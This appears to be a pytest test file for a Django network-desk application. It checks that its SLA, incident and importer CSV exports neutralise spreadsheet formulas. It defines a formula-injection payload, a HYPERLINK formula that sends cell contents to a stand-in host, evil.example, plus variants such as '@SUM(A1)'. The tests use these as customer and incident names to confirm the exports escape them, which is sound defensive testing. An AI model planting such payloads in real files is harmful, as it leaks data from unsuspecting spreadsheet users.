"""Every CSV the desk exports: one table per file, and never a formula a
spreadsheet would run, whatever a customer, an incident or a policy is called."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.test import Client

from netdesk.accounts.models import Role, TierKind
from netdesk.network.import_report import ImportReport
from netdesk.network.selectors import topology_changed
from netdesk.noc.models import IncidentState, IncidentTicket, NetworkIncident
from netdesk.noc.services.incidents import incident_create
from netdesk.sla.importers import SkipLog
from netdesk.sla.models import BusinessCalendar, SlaPolicy, SlaTimer
from tests import factories as f

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
T0 = datetime(2026, 6, 1, tzinfo=UTC)


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def no_formula(rows: list[list[str]]) -> None:
    """No cell starts like a formula; the evil name is there, quoted."""
    assert f"'{EVIL}" in cells(rows)
    for cell in cells(rows):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit())


def api(role: str) -> Client:
    return Client(HTTP_AUTHORIZATION=f"Bearer {f.token_for(f.user(role))}")


@pytest.fixture
def evil_desk():
    """A key account called like a formula, with a breached ticket on a
    policy called like one, linked to an incident called like one."""
    calendar = BusinessCalendar.objects.create(name="cal", always_open=True)
    policy = SlaPolicy.objects.create(name=f"-{EVIL}", calendar=calendar)
    evil = f.customer("key_account", name=EVIL)
    ticket = f.ticket(f.user(), evil)
    SlaTimer.objects.filter(ticket=ticket).delete()
    SlaTimer.objects.create(
        ticket=ticket,
        policy=policy,
        kind="sla",
        metric="resolution",
        started_at=T0,
        target_seconds=3600,
        state="breached",
        stopped_at=T0 + timedelta(days=1),
        breached_at=T0 + timedelta(hours=1),
        due_at=T0 + timedelta(hours=1),
        computed_at=T0,
    )
    outage = NetworkIncident.objects.create(
        title=EVIL,
        detected_by="alarm",
        state=IncidentState.RESOLVED,
        started_at=T0 + timedelta(days=2),
        detected_at=T0 + timedelta(days=2, minutes=5),
        resolved_at=T0 + timedelta(days=2, hours=1),
    )
    outage.affected_key_accounts.add(evil)
    IncidentTicket.objects.create(incident=outage, ticket=ticket, linked_at=outage.detected_at)
    return {"customer": evil, "ticket": ticket, "incident": outage}


SLA_PERIOD = {"start": "2026-06-01T00:00:00Z", "end": "2026-07-01T00:00:00Z"}


@pytest.mark.parametrize(
    ("params", "first_heading"),
    [
        ({"by": "key_account"}, "Key account"),
        ({"by": "policy"}, "Policy"),
        ({"by": "key_account", "table": "breached"}, "Ticket"),
    ],
)
def test_sla_csv_tables_neutralise_formulas(evil_desk, params, first_heading):
    rows = rows_of(api(Role.TEAM_LEAD).get("/api/v1/reports/sla.csv", SLA_PERIOD | params))
    assert rows[0][0] == first_heading
    assert [] not in rows  # one table per file
    if params["by"] == "policy":
        assert f"'-{EVIL}" in cells(rows)
    else:
        no_formula(rows)


@pytest.mark.parametrize("table", [None, "incidents", "totals"])
def test_failure_csv_tables_neutralise_formulas(evil_desk, table):
    params = {"month": "2026-06"} | ({"table": table} if table else {})
    rows = rows_of(api(Role.NOC_ENGINEER).get("/api/v1/reports/failures.csv", params))
    assert [] not in rows
    if table == "totals":
        assert rows[0] == ["Figure", "Value"]
        assert ["Incidents", "1"] in rows
    else:
        assert rows[0][0] == "Incident"
        assert len(rows) == 2
        no_formula(rows)


def test_unknown_table_is_a_problem_naming_the_choices(evil_desk):
    response = api(Role.TEAM_LEAD).get("/api/v1/reports/sla.csv", {"table": "everything"})
    assert response.status_code == 422
    (error,) = response.json()["errors"]
    assert error["field"] == "table"


@pytest.fixture
def outage_of_many():
    """An incident under which 120 customers hang, one of them called like a formula."""
    core = f.element("CORE-1")
    olt = f.element("OLT-7", upstream=core)
    customers = [f.customer(name=EVIL if n == 60 else f"Subscriber {n}") for n in range(120)]
    for customer in customers:
        f.service(customer, access_element=olt)
    topology_changed()
    incident = incident_create(actor=None, title="OLT down", detected_by="manual", root_element=olt)
    return incident, customers


def test_every_affected_customer_of_an_incident_as_csv(outage_of_many, client):
    incident, customers = outage_of_many
    path = f"/api/v1/reports/incidents/{incident.reference}/customers.csv"
    rows = rows_of(api(Role.NOC_ENGINEER).get(path))
    assert rows[0] == ["Account number", "Customer", "Segment"]
    assert [r[0] for r in rows[1:]] == [c.account_number for c in customers]
    assert rows[1][2] == "Residential"
    no_formula(rows)
    # The incident page, which lists the first 50, links to the whole list.
    client.force_login(f.user(Role.NOC_ENGINEER, groups=[f.group(TierKind.SECOND_LINE)]))
    page = client.get(f"/noc/incidents/{incident.reference}/").content.decode()
    assert path in page


def test_incident_customer_csv_of_an_unknown_incident_is_a_problem():
    response = api(Role.NOC_ENGINEER).get("/api/v1/reports/incidents/NI-424242/customers.csv")
    assert response.status_code == 404
    assert response["Content-Type"] == "application/problem+json"


def test_skipped_row_files_of_the_importers_neutralise_formulas(tmp_path):
    inventory = tmp_path / "inventory-skipped.csv"
    report = ImportReport(skipped_csv=inventory)
    report.skip("element", EVIL, "unknown kind", detail=f"-{EVIL}", row={"name": EVIL})
    report.close()
    history = tmp_path / "history-skipped.csv"
    log = SkipLog()
    log.add("incident", EVIL, "no priority", detail="@SUM(A1)")
    log.write_csv(history)
    for path in (inventory, history):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        assert rows[1][1] == f"'{EVIL}"
        for cell in cells(rows):
            assert not cell.startswith(("=", "+", "-", "@")), (path.name, cell)
